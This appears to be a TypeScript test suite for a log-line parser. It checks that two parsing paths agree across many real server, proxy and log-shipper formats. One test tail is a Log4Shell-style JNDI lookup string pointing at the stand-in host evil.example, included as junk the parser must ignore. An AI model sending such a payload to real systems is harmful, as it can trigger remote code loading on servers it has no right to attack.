// Goal: lines as servers, proxies and log shippers really write them are read, and by both paths alike. Each row is one shape.
import { assertEquals } from "@std/assert";
import { createEventReader } from "../../../src/event/fast_reader.ts";
import { type EventRules, readEvent } from "../../../src/event/read_event.ts";
import { RULES_2 } from "../../../src/event/stream_rules.ts";
import { READ_COMMENT, READ_OK } from "../../../src/event/types.ts";
import { createEchoLocator } from "../../fuzz/event_pair.ts";

const RULES: EventRules = {
  stream: RULES_2,
  format: "lines",
  referrerGranularity: "raw",
  keyBytesMax: 1024,
  trustedProxyHops: 0,
  defaultHost: "log.example",
};
const encoder = new TextEncoder();

/** `host referrer address time` by both paths, which must agree; a reason or `comment` where there is no event. */
function read(line: string | Uint8Array, rules: Partial<EventRules> = {}, logFormat = "auto"): string {
  const all = { ...RULES, ...rules, stream: { ...RULES_2, logFormat } };
  const bytes = typeof line === "string" ? encoder.encode(line) : line;
  const slow = readEvent(bytes, all);
  const locator = createEchoLocator();
  const reader = createEventReader({ ...all, locator, hashSeed: 5 });
  const code = reader.read(bytes, 0, bytes.length);
  if (slow.kind !== "event") {
    assertEquals(code === READ_COMMENT, slow.kind === "comment");
    assertEquals(code !== READ_OK, true);
    return slow.kind === "dead" ? slow.reason : slow.kind;
  }
  const fast = [reader.hosts.text(reader.host), reader.referrers.text(reader.referrer), locator.address(reader.place)];
  assertEquals([...fast, reader.eventTime, reader.bot === 1], [
    slow.host,
    slow.referrer,
    slow.address,
    slow.eventTime,
    slow.bot,
  ]);
  const time = new Date(slow.eventTime).toISOString().replace(".000Z", "Z");
  return `${slow.host} ${slow.referrer || "-"} ${slow.address || "-"} ${time}`;
}

const UA = "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0";
const T = "03/Mar/2026:10:00:07 +0000";
const COMBINED = `198.51.100.7 - - [${T}] "GET / HTTP/1.1" 200 512 "https://r.example/" "${UA}"`;
const GOOD = "log.example https://r.example/ 198.51.100.7 2026-03-03T10:00:07Z";
const hosted = (host: string) => GOOD.replace("log.example", host);
const from = (address: string) => GOOD.replace("198.51.100.7", address);

Deno.test("a combined line is read whatever follows it", () => {
  for (
    const tail of [
      "",
      " ",
      "\t",
      " 0.003",
      ' 1 "shop@docker" "http://10.0.0.3:80" 2ms',
      " 512 0.013 [default-shop-80] [] 10.1.0.17:5000 512 0.013 200 835081a7740db11eb2ffbce625dafc",
      ' "3.21"',
      ' "-"',
      ' "USERID=abc;IMPID=1"',
      ' "203.0.113.9" "0.005"',
      ' "${jndi:ldap://evil.example/a}"',
      ' "" ',
    ]
  ) {
    assertEquals(read(COMBINED + tail), GOOD, tail);
    assertEquals(read(COMBINED + tail, {}, "combined"), GOOD, tail);
  }
});

Deno.test("a line is taken out of what log shippers put around it", () => {
  for (
    const line of [
      JSON.stringify({ log: `${COMBINED}\n`, stream: "stdout", time: "2026-03-03T10:00:09.689166775Z" }),
      `2026-03-03T10:00:08.689166775Z stdout F ${COMBINED}`,
      `Mar  3 10:00:08 web1 nginx: ${COMBINED}`,
      `<190>Mar  3 10:00:08 web1 nginx[12]: ${COMBINED}`,
      `<190>Mar  3 10:00:08 nginx[12]: ${COMBINED}`,
      `2026-03-03T10:00:08.123456+01:00 web1 nginx[12]: ${COMBINED}`,
      `<14>1 2026-03-03T10:00:08Z web1 nginx 12 - - ${COMBINED}`,
      `web_1  | ${COMBINED}`,
      `nginx: ${COMBINED}`,
      `\ufeff${COMBINED}`,
      ` ${COMBINED}`,
    ]
  ) assertEquals(read(line), GOOD, line);
});

Deno.test("columns before the time: virtual hosts, forwarded addresses, idents and users", () => {
  const rest = COMBINED.slice("198.51.100.7 - - ".length);
  for (
    const [columns, expected] of [
      ["198.51.100.7 -  - ", GOOD],
      ["198.51.100.7 - John Doe ", GOOD],
      ['198.51.100.7 - "car5941 " ', GOOD],
      ["198.51.100.7 www.example.com - ", GOOD],
      ["WWW.Example.com:443 198.51.100.7 - - ", hosted("www.example.com")],
      ["shop.example:8080 198.51.100.7 - joe ", hosted("shop.example:8080")],
      ["- 198.51.100.7 - - ", GOOD],
      ["*:80 198.51.100.7 - - ", GOOD],
      [":80 198.51.100.7 - - ", GOOD],
      ["203.0.113.10 198.51.100.7 - - ", GOOD],
      ["203.0.113.10, 198.51.100.7 - - ", GOOD],
      ["[2001:db8::1]:443 198.51.100.7 - - ", GOOD],
      ["shop.example crawl-1.bot.example - - ", hosted("shop.example").replace("198.51.100.7", "crawl-1.bot.example")],
      ["crawl-1.bot.example - - ", from("crawl-1.bot.example")],
      ["2001:4860:4860::8888 - - ", from("2001:4860:4860::8888")],
      ["::ffff:8.8.8.8 - - ", from("::ffff:8.8.8.8")],
      ["[2001:4860:4860::8888]:50000 - - ", from("[2001:4860:4860::8888]:50000")],
      ["8.8.8.8:443 - - ", from("8.8.8.8:443")],
      ["fe80::1%eth0 - - ", from("fe80::1%eth0")],
      ["- - - ", from("-")],
      ["unix: - - ", from("unix:")],
    ] as const
  ) assertEquals(read(columns + rest), expected, columns);
});

Deno.test("what is an address, or a list of them, is never the host", () => {
  const rest = COMBINED.slice("198.51.100.7 ".length);
  for (const first of ["203.0.113.10", "203.0.113.10,10.0.0.1", "2001:db8::1", "-", "unknown"]) {
    assertEquals(read(`${first} 198.51.100.7 ${rest}`, { defaultHost: "x.example" }).split(" ")[0], "x.example", first);
  }
});

Deno.test("trusted hops choose the client of a forwarded list", () => {
  const hops = { trustedProxyHops: 1 };
  assertEquals(read(`${COMBINED} "203.0.113.9"`, hops), from("203.0.113.9"));
  assertEquals(read(`${COMBINED} "192.0.2.1, 203.0.113.9"`, hops), from("203.0.113.9"));
  assertEquals(read(`${COMBINED} "-"`, hops), GOOD);
  assertEquals(read(`${COMBINED} "not an address"`, hops), GOOD);
  assertEquals(read(`203.0.113.9 ${COMBINED}`, hops), from("203.0.113.9"));
  assertEquals(read(`192.0.2.1, 203.0.113.9, ${COMBINED}`, hops), from("203.0.113.9"));
});

Deno.test("times of the family, with fractions, without a zone, in Python's spelling", () => {
  for (
    const [time, expected] of [
      ["03/Mar/2026:10:00:07.123 +0000", "2026-03-03T10:00:07.123Z"],
      ["3/MAR/2026:10:00:07 +0545", "2026-03-03T04:15:07Z"],
      ["03/Mar/2026:10:00:07 GMT", "2026-03-03T10:00:07Z"],
      ["03/Mar/2026:10:00:07", "2026-03-03T10:00:07Z"],
      ["03/Mar/2026 10:00:07", "2026-03-03T10:00:07Z"],
      ["29/Mar/2026:03:00:05 +0200", "2026-03-29T01:00:05Z"],
      ["30/Jun/2026:23:59:60 +0000", "bad_event_time"],
      ["31/Apr/2026:10:00:00 +0000", "bad_event_time"],
      ["05/avr./2026:10:00:50 +0000", "bad_event_time"],
    ] as const
  ) assertEquals(read(COMBINED.replace(T, time)).split(" ").at(-1), expected, time);
});

Deno.test("a broken field that does not count does not cost the hit", () => {
  const line = (request: string, agent: string) =>
    `198.51.100.7 - - [${T}] "${request}" 200 512 "https://r.example/" "${agent}"`;
  for (
    const request of [
      "-",
      "",
      "\\x16\\x03\\x01",
      "GET /",
      'GET /?a="b" HTTP/1.1',
      "GET /a b c HTTP/1.1",
      "PRI * HTTP/2.0",
    ]
  ) {
    assertEquals(read(line(request, UA)), GOOD, request);
  }
  for (
    const agent of [
      'Dalvik/2.1.0 (Alba 10" Build)',
      'foo " bar',
      'esc \\" ok',
      "ends with backslash \\",
      "Fire\u0000fox",
    ]
  ) {
    assertEquals(read(line("GET / HTTP/1.1", agent)), GOOD, agent);
  }
  const raw = encoder.encode(line("GET /\u00a5 HTTP/1.0", UA)).map((byte) => byte === 0xc2 ? 0xff : byte);
  assertEquals(read(raw), GOOD);
  assertEquals(read(COMBINED.replace("200 512", "408 -")), GOOD);
  assertEquals(read(COMBINED.replace("200 512", "000 0")), GOOD);
  assertEquals(read("2026/03/03 10:00:05 [error] 31361#31361: *18 open() failed"), "bad_line");
  assertEquals(read("==> /var/log/nginx/access.log <=="), "bad_line");
});

Deno.test("formats of other servers, by their own shape or by name", () => {
  const host = (name: string, referrer = "-") => `${name} ${referrer} 198.51.100.7 2026-03-03T10:00:07Z`;
  for (
    const [name, line, expected] of [
      // Amazon's documentation of the load balancer's access log, S3 server access log and CloudFront standard log.
      [
        "alb",
        "https 2026-03-03T10:00:07.000000Z app/my-lb/50dc6c495c0c9188 198.51.100.7:2817 10.0.0.1:80 0.086 0.048 0.037 200 200 0 57 " +
        `"GET https://www.example.com:443/ HTTP/1.1" "${UA}" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2`,
        host("log.example"),
      ],
      [
        "s3",
        "79a59df900b949e55d96a1e698fbacedfd6e09d98eacf8f8d5218e7cd47ef2be amzn-s3-demo-bucket1 " +
        `[${T}] 198.51.100.7 - 3E57427F3EXAMPLE REST.GET.OBJECT k "GET /k HTTP/1.1" 200 - 113 113 7 6 "https://r.example/" "${UA}" -`,
        host("amzn-s3-demo-bucket1", "https://r.example/"),
      ],
      [
        "cloudfront",
        [
          "2026-03-03",
          "10:00:07",
          "FRA2",
          "500",
          "198.51.100.7",
          "GET",
          "d1.cloudfront.example",
          "/",
          "200",
          "-",
          "Mozilla/5.0%20(X11)",
          "-",
        ]
          .join("\t"),
        host("d1.cloudfront.example"),
      ],
      // HAProxy's manual, section 8.2.3; Envoy's default format string; Nginx Proxy Manager's proxy format; IIS defaults.
      [
        "haproxy",
        "Feb  6 12:14:14 localhost haproxy[14389]: 198.51.100.7:33317 [03/Mar/2026:10:00:07.655] http-in static/srv1 10/0/30/69/109 200 2750 " +
        '- - ---- 1/1/1/1/0 0/0 {1wt.eu} {} "GET /index.html HTTP/1.1"',
        host("log.example").replace("07Z", "07.655Z"),
      ],
      [
        "envoy",
        `[2026-03-03T10:00:07.000Z] "GET /api HTTP/2" 200 - 0 154 8 7 "198.51.100.7" "${UA}" "cc21d9b0" "shop.example" "10.0.35.28:80"`,
        host("shop.example"),
      ],
      [
        "npm",
        `[${T}] - 200 200 - GET https shop.example "/" [Client 198.51.100.7] [Length 512] [Gzip -] [Sent-to 10.0.0.3] "${UA}" "https://r.example/"`,
        host("shop.example", "https://r.example/"),
      ],
      [
        "iis",
        "2026-03-03 10:00:07 10.1.1.1 GET / - 443 - 198.51.100.7 Mozilla/5.0+(X11) - 200 0 0 12",
        host("log.example"),
      ],
    ] as const
  ) {
    assertEquals(read(line), expected, `auto: ${name}`);
    assertEquals(read(line.replace(/^Feb.*?\]: /, ""), {}, name), expected, name);
  }
  assertEquals(read("#Fields: date time"), "comment");
});

Deno.test("JSON lines under the names that servers and people give", () => {
  const expected = "shop.example https://r.example/ 198.51.100.7 2026-03-03T10:00:07Z";
  const headers = { "User-Agent": [UA], Referer: ["https://r.example/"] };
  for (
    const [name, value] of [
      ["auto", {
        event_time: "2026-03-03T10:00:07Z",
        host: "shop.example",
        ip: "198.51.100.7",
        referrer: "https://r.example/",
      }],
      ["caddy", {
        ts: 1772532007.0004,
        request: { remote_ip: "198.51.100.7", client_ip: "198.51.100.7", host: "shop.example", uri: "/", headers },
      }],
      ["traefik_json", {
        StartUTC: "2026-03-03T10:00:07.000712623Z",
        ClientHost: "198.51.100.7",
        RequestHost: "shop.example",
        RequestPath: "/",
        request_Referer: "https://r.example/",
      }],
      ["cloudflare", {
        ClientIP: "198.51.100.7",
        ClientRequestHost: "shop.example",
        EdgeStartTimestamp: "2026-03-03T10:00:07Z",
        ClientRequestReferer: "https://r.example/",
      }],
      ["nginx_json", {
        time_iso8601: "2026-03-03T10:00:07+00:00",
        remote_addr: "198.51.100.7",
        host: "shop.example",
        http_referrer: "https://r.example/",
      }],
      ["auto", {
        ip: "198.51.100.7",
        host: "shop.example",
        path: "/",
        referrer: "https://r.example/",
        date: "2026-03-03T10:00:07+00:00",
      }],
    ] as const
  ) {
    assertEquals(read(JSON.stringify(value)), expected, JSON.stringify(value));
    assertEquals(read(JSON.stringify(value), {}, name), expected, name);
  }
  const escaped =
    `{"event_time":"2026-03-03T10:00:07Z","host":"shop.example","ip":"198.51.100.7","referrer":"https://r.example/","user_agent":"Tab 10\\x22"}`;
  assertEquals(read(escaped), expected);
  assertEquals(read(`${escaped},`), expected);
  assertEquals(read('{"host":"shop.example"}'), "missing_event_time");
  assertEquals(read('{"host":'), "bad_json");
});

Deno.test("UTF-16 is named as what it is", () => {
  const wide = new Uint8Array([...COMBINED].flatMap((c) => [c.charCodeAt(0), 0]));
  assertEquals(read(wide), "binary_value");
});
